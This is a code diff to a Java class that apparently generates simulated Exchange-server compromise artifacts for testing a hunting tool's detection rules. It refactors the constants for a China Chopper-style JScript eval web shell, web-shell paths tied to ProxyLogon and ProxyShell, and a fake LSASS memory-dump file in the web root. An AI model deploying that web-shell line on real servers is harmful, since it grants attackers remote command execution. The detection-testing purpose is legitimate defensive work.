@@ -34,7 +34,8 @@ final class Intrusion {
     private static final String OAB_SHELL = "inetpub/wwwroot/aspnet_client/system_web/Xmfa8Kd3.aspx";
     private static final String OWA_SHELL = INSTALL + "FrontEnd/HttpProxy/owa/auth/RedirSuiteServerProxy.aspx";
     private static final String PST_SHELL = "inetpub/wwwroot/aspnet_client/x4mfa.aspx";   // EventSamples' export path
-    private static final String CHOPPER = "<script language=\"JScript\" runat=\"server\">function Page_Load(){eval(Request[\"exhunt\"],\"unsafe\");}</script>";
+    private static final String CHOPPER = "<script language=\"JScript\" runat=\"server\">"
+            + "function Page_Load(){eval(Request[\"exhunt\"],\"unsafe\");}</script>";
 
     private Intrusion() {}
 
@@ -75,7 +76,8 @@ final class Intrusion {
                 PROXYLOGON.plusSeconds(600), "EXHUNT_Chopper_JScript_Eval", "ProxyLogon"));
         shells.add(new Shell(PST_SHELL, pst(r), 0, PROXYSHELL.plusSeconds(300), "EXHUNT_PST_Export_Shell", "ProxyShell"));
         // comsvcs.dll MiniDump of LSASS into the web root: a header, then (sparse) memory
-        shells.add(new Shell("inetpub/wwwroot/aspnet_client/lsass.dmp", "MDMP\u0093\u00a7\u0000\u0000".getBytes(StandardCharsets.ISO_8859_1),
+        byte[] minidump = "MDMP\u0093\u00a7\u0000\u0000".getBytes(StandardCharsets.ISO_8859_1);
+        shells.add(new Shell("inetpub/wwwroot/aspnet_client/lsass.dmp", minidump,
                 48L << 20, PROXYSHELL.plusSeconds(610), "exhunt.file.lsass-dump", null));
         shells.add(text(INSTALL + "ClientAccess/ecp/Reporting/DailyReport.aspx", commandShell(),
                 Instant.parse("2021-05-10T22:41:03Z"), "EXHUNT_ASPX_Command_Shell", null));
